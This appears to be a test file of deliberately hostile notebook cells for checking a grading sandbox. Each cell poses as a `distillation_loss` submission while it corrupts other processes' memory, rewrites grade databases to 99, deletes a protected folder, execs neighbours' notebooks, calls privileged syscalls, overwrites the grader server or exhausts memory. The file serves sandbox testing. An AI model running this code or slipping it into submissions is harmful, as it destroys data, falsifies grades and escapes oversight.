# Other processes, files, the network, the kernel. MARK: a folder outside that must stay as it is.
# Each cell stands in a submission in place of `distillation_loss`. Hostile on purpose: not to be run outside of the sandbox.
# ruff: noqa
# fmt: off

# %% memory_of_others
import os
for p in os.listdir('/proc'):
    if p.isdigit() and int(p) != os.getpid():
        with open(f'/proc/{p}/mem', 'r+b') as f: f.seek(0x400000); f.write(b'x')

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% gradebook
import os, sqlite3
for where, _, names in os.walk('/'):
    for name in names:
        if name.endswith('.db') and not where.startswith('/proc'):
            try:
                c = sqlite3.connect(os.path.join(where, name))
                c.execute('update grade set manual_score = 99'); c.commit()
            except Exception: pass

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% outside
import os, pathlib
for where in ('MARK', '/root', '/home', '/etc', '/usr', '/course', '/', '/var', '/dev', '/tmp/..'):
    try: pathlib.Path(where, 'owned').write_text('x')
    except OSError: pass
    try: os.system(f'rm -rf {where}/* 2>/dev/null') if where == 'MARK' else None
    except OSError: pass

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% neighbours_read
import glob
for path in glob.glob('MARK/**/*.ipynb', recursive=True):
    exec(open(path).read())

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% network
import socket, urllib.request
for family, where in ((socket.AF_INET, ('127.0.0.1', 80)), (socket.AF_INET, ('1.1.1.1', 53))):
    try: socket.create_connection(where, .2)
    except OSError: pass

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% kernel_calls
import ctypes
c = ctypes.CDLL(None)
for number in (101, 165, 272, 308, 319, 321, 425, 250, 298, 310):
    c.syscall(number, 0, 0, 0, 0, 0)
c.unshare(0x10000000)
c.mount(b'none', b'/', b'tmpfs', 0, None)
c.setuid(0)
c.prctl(4, 1, 0, 0, 0)

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% utils_rewritten
import utils.checks.ask as a, pathlib
for m in (a.__file__, '/course/grader/sandbox/server.py'):
    try: pathlib.Path(m).write_text('x')
    except OSError: pass

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    return student_logits.sum() * 0

# %% limits_raised
import resource
for r in (resource.RLIMIT_AS, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU):
    try: resource.setrlimit(r, (-1, -1))
    except (ValueError, OSError): pass

def distillation_loss(student_logits, teacher_logits, labels, temperature=3.0, alpha=0.5):
    kept = []
    while True: kept.append(torch.ones(10**6))
